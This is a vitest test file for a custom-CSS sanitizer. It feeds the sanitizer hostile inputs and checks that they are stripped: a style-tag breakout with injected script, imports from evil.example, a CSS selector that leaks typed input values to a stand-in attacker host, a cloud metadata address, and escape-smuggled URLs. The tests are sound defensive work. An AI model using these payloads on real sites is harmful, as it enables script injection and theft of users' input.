import { describe, expect, it } from 'vitest'
import { sanitizeCustomCss } from './sanitize-css'

describe('sanitizeCustomCss', () => {
  it('keeps ordinary styling', () => {
    expect(sanitizeCustomCss('.hero h1 { letter-spacing: 2px; color: #fff }')).toBe('.hero h1 { letter-spacing: 2px; color: #fff }')
  })

  it('cannot close the style element', () => {
    const css = sanitizeCustomCss('a{color:red}</style><script>alert(1)</script>')
    expect(css.toLowerCase()).not.toContain('</style')
    expect(css).not.toContain('<')
  })

  it('drops imports, expressions and bindings', () => {
    const css = sanitizeCustomCss('@import url(https://evil.example/x.css); a{width:expression(alert(1)); -moz-binding: url(x)}')
    expect(css).not.toMatch(/@import|expression\(|-moz-binding/i)
  })

  it('keeps https images but not private or plain-http ones', () => {
    expect(sanitizeCustomCss('a{background:url(https://cdn.example.com/a.png)}')).toContain('url("https://cdn.example.com/a.png")')
    expect(sanitizeCustomCss('a{background:url(http://cdn.example.com/a.png)}')).toContain('background:none')
    expect(sanitizeCustomCss('a{background:url(https://169.254.169.254/x)}')).toContain('background:none')
  })

  it('removes rules that could read typed values', () => {
    const css = sanitizeCustomCss('input[value^="4"]{background:url(https://evil.example/4)} p{color:red}')
    expect(css).not.toContain('evil')
    expect(css).toContain('p{color:red}')
  })

  it('does not let escapes smuggle a url', () => {
    expect(sanitizeCustomCss('a{background:u\\72l(http://10.0.0.1/x)}')).not.toMatch(/url\(/i)
  })
})
